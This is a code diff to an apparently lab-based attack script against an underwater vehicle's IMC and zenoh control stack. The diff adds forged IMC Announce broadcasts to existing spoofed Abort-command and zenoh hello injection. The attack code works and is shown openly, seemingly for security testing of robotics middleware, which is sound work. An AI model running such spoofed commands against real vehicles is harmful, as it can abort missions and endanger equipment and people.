@@ -21,6 +21,7 @@ from typing import Any
 
 VEHICLE, ATTACKER = "10.99.0.1", "10.99.0.2"
 NAME = "lauv-noptilus-1"
+GROUP = "224.0.75.69"
 PATIENCE = 20.0
 WATCH = 3.0  # s; zenoh's own scouting asks at 0, 1, 3 s
 
@@ -67,7 +68,7 @@ def sockets(kind: str, process: int) -> list[tuple[str, int, str, int]]:
 
 
 def is_local(address: str) -> bool:
-    return address.startswith("127.") or address == "::1"
+    return address.startswith("127.") or address == "::1" or address == GROUP  # joined at the loopback interface only
 
 
 def attack(ports: dict[str, list[int]], seconds: float) -> dict[str, Any]:
@@ -91,7 +92,11 @@ def attack(ports: dict[str, list[int]], seconds: float) -> dict[str, Any]:
         zid = bytes.fromhex(str(session.info.zid()).zfill(32))[::-1]
         hello = bytes((0x22, 9, 15 << 4 | 1)) + zid + bytes((1, len(locator))) + locator.encode()
         udp.bind((ATTACKER, 0))
+        udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
         udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ATTACKER))
+        announce = imc.Announce(
+            src=0x4001, timestamp=time.time(), sys_name="attacker", services=f"imc+udp://{ATTACKER}:6001/"
+        )
         packet = imc.encode(imc.Abort(src=0x4001, dst=0x001E, timestamp=time.time()))
         deadline = time.monotonic() + seconds
         while time.monotonic() < deadline:
@@ -99,6 +104,10 @@ def attack(ports: dict[str, list[int]], seconds: float) -> dict[str, Any]:
                 for target in [(VEHICLE, port) for port in ports["udp"]] + [("224.0.0.224", 7446)]:
                     with contextlib.suppress(OSError):
                         udp.sendto(datagram, target)
+            for place in (GROUP, "10.99.0.255", VEHICLE):
+                for port in range(30100, 30105):
+                    with contextlib.suppress(OSError):
+                        udp.sendto(imc.encode(announce), (place, port))
             session.put(f"imc/{NAME}/@cmd/Abort/ccu", packet)
             session.put("imc/ccu/Abort/0", packet)
             time.sleep(0.1)
